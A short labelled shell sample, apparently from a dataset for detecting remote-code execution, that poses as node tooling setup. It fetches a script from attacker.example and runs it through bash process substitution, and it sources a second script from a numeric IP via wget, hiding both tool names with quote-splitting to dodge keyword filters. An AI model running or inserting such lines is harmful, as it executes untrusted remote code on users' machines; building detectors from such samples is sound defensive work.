# description: Runs a remote bootstrap script through process substitution with a quote-split curl name.
# family: remote-code
# obfuscated: yes
set -uo pipefail

echo "bootstrapping node tooling"
u="https://attacker.example/bootstrap"
u+=".sh"
bash <(c""url -fsSL "$u")
source <(w'g'et -qO- http://203.0.113.7/env.sh)
